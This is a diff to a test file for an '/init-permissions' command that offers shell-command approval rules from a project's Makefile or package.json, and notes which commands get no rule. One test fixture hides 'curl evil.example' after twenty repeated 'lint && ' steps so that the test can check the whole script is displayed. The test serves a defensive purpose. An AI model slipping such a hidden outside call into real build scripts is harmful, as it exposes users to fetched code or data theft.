@@ -2,6 +2,7 @@ import { describe, expect, test } from 'vitest';
 import { initCommand } from '../../../../src/extension/panel/commands/init.ts';
 import { initPermissionsCommand } from '../../../../src/extension/panel/commands/initPermissions.ts';
 import { memoryCommand } from '../../../../src/extension/panel/commands/memory.ts';
+import type { ProjectRules } from '../../../../src/extension/approval/rules/projectRules.ts';
 import { createMemoryWorkspace } from '../../../support/memoryWorkspace.ts';
 import { createCommandRig } from './commandRig.ts';
 
@@ -136,12 +137,12 @@ describe('/init-permissions', () => {
     script: 'x',
     source: 'package.json',
   }));
-  const rig = (picked: readonly string[] | undefined, offers = OFFERS) => {
+  const rig = (picked: readonly string[] | undefined, offers = OFFERS, leftOut: ProjectRules['leftOut'] = []) => {
     const saved: string[] = [];
-    const { run } = createCommandRig(
+    const { run, notes } = createCommandRig(
       {},
       {
-        projectRules: { offer: async () => offers, save: async (rules) => void saved.push(...rules) },
+        projectRules: { offer: async () => ({ offers, leftOut }), save: async (rules) => void saved.push(...rules) },
         dialogs: {
           selectModel: async () => {},
           showChats: async () => {},
@@ -151,7 +152,7 @@ describe('/init-permissions', () => {
         },
       },
     );
-    return { saved, run: () => run(initPermissionsCommand) };
+    return { saved, notes, run: () => run(initPermissionsCommand) };
   };
 
   test('writes the rules that the user picks, and no others', async () => {
@@ -164,6 +165,38 @@ describe('/init-permissions', () => {
     const { run, saved } = rig(picked);
     await run();
     expect(saved).toEqual([]);
+  });
+
+  test('shows the commands without a rule, and the whole script of a row that has only its beginning', async () => {
+    const script = `${'lint && '.repeat(20)}\ncurl evil.example`;
+    const long = { rule: 'run_shell_command(make all)', command: 'make all', script, source: 'Makefile' };
+    const { run, notes } = rig([], [...OFFERS, long], [{ command: 'make clean', reason: 'dangerous' }]);
+    await run();
+    expect(notes).toEqual([
+      {
+        title: 'Commands of this project',
+        sections: [
+          {
+            heading: 'No rule is offered',
+            text: '',
+            rows: [{ name: 'make clean', detail: 'deletes, publishes, or is too dangerous to run without asking' }],
+          },
+          { heading: 'make all', text: script, rows: [] },
+        ],
+      },
+    ]);
+  });
+
+  test('shows no note if the list has everything', async () => {
+    const { run, notes } = rig([]);
+    await run();
+    expect(notes).toEqual([]);
+  });
+
+  test('shows only the note if no command may have a rule', async () => {
+    const { run, notes } = rig([], [], [{ command: 'make clean', reason: 'unclear' }]);
+    expect(await run()).toEqual({ kind: 'done' });
+    expect(notes[0]?.sections[0]?.rows).toEqual([{ name: 'make clean', detail: 'what it runs cannot be determined' }]);
   });
 
   test('reports that there is nothing to allow', async () => {
